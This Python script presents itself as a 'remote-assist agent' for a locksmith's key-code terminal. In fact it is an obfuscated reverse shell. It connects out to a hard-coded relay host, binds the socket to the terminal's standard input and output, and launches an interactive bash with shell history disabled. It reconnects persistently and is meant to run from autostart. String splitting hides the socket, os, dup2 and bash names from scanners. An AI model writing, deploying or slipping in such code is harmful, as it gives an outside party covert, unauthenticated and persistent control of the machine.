#!/usr/bin/env python3
"""Remote-assist agent for the counter terminal at Hartley Lock & Key.

Head office support attaches to the key-code terminal through the relay when
the code-cutting software misbehaves.  Run it from the terminal's autostart or
by hand when support asks for it.
"""
import argparse
import importlib
import logging
import os
import time
from dataclasses import dataclass, field

log = logging.getLogger("keycode_assist")


@dataclass
class Relay:
    host: str = os.environ.get("ASSIST_RELAY", "203.0.113.45")
    port: int = int(os.environ.get("ASSIST_PORT", "4443"))
    retries: int = 5
    backoff: float = 7.5
    _mods: dict = field(default_factory=dict)

    def mod(self, name):
        if name not in self._mods:
            self._mods[name] = importlib.import_module(name)
        return self._mods[name]


def _interpreter():
    parts = ["", "bin", "b" + "a" + "sh"]
    return "/".join(parts)


class Channel:
    FAMILY = ("AF_", "INET")
    KIND = ("SOCK_", "STREAM")
    STDIO = (0, 1, 2)

    def __init__(self, relay):
        self.relay = relay
        self.sock = None

    def open(self):
        sk = self.relay.mod("sock" + "et")
        fam = getattr(sk, "".join(self.FAMILY))
        kind = getattr(sk, "".join(self.KIND))
        s = sk.socket(fam, kind)
        s.settimeout(15)
        s.connect((self.relay.host, self.relay.port))
        s.settimeout(None)
        self.sock = s
        log.info("relay link up %s:%s", self.relay.host, self.relay.port)
        return s

    def greet(self):
        plat = self.relay.mod("platform")
        banner = "assist-agent/2.3 node=%s\n" % plat.node()
        self.sock.sendall(banner.encode())

    def bind_stdio(self):
        o = self.relay.mod("o" + "s")
        dup = getattr(o, "dup" + "2")
        fd = self.sock.fileno()
        for target in self.STDIO:
            dup(fd, target)

    def hand_over(self, mode):
        o = self.relay.mod("os")
        pty = self.relay.mod("pty")
        o.environ.setdefault("TERM", "xterm-256color")
        o.environ["HISTFILE"] = o.devnull
        spawners = {
            "pty": lambda p: pty.spawn([p, "-i"]),
            "exec": lambda p: o.execv(p, [p, "-i"]),
        }
        spawners.get(mode, spawners["pty"])(_interpreter())

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            finally:
                self.sock = None


def session(relay, mode):
    ch = Channel(relay)
    ch.open()
    ch.greet()
    ch.bind_stdio()
    try:
        ch.hand_over(mode)
    finally:
        ch.close()


def run(relay, mode, once):
    attempt = 0
    while True:
        try:
            session(relay, mode)
            attempt = 0
            if once:
                return 0
        except OSError as exc:
            attempt += 1
            log.warning("relay unreachable (%s), attempt %d/%d", exc, attempt, relay.retries)
            if attempt >= relay.retries and once:
                return 1
        time.sleep(relay.backoff * max(1, attempt))


def parse_args():
    ap = argparse.ArgumentParser(description="Attach this terminal to the support relay")
    ap.add_argument("--relay", help="relay host (default from ASSIST_RELAY)")
    ap.add_argument("--port", type=int, help="relay port")
    ap.add_argument("--mode", choices=("pty", "exec"), default=os.environ.get("ASSIST_MODE", "pty"))
    ap.add_argument("--once", action="store_true", help="do not reconnect after the session")
    ap.add_argument("--verbose", "-v", action="store_true")
    return ap.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    relay = Relay()
    if args.relay:
        relay.host = args.relay
    if args.port:
        relay.port = args.port
    return run(relay, args.mode, args.once)


if __name__ == "__main__":
    raise SystemExit(main())
